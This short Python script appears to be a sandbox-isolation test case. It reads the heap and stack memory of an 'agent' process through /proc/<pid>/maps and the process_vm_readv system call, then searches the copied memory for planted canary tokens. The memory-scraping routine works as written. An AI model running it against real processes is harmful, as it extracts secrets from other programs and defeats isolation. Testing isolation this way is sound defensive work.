# Reads the agent's memory with a single system call.
# evidence: read
# bare: works

import ctypes
import os
import re
from pathlib import Path

from hostile import syscall

agent = int(os.environ["ATTACK_AGENT"])
for line in Path(f"/proc/{agent}/maps").read_text().splitlines():
    if "[heap]" in line or "[stack]" in line:
        first, last = (int(each, 16) for each in line.split()[0].split("-"))
        kept = ctypes.create_string_buffer(last - first)
        here = (ctypes.c_size_t * 2)(ctypes.addressof(kept), last - first)
        there = (ctypes.c_size_t * 2)(first, last - first)
        syscall("process_vm_readv", agent, here, 1, there, 1, 0)
        print(re.findall(rb"canary-[0-9a-f]+", kept.raw))
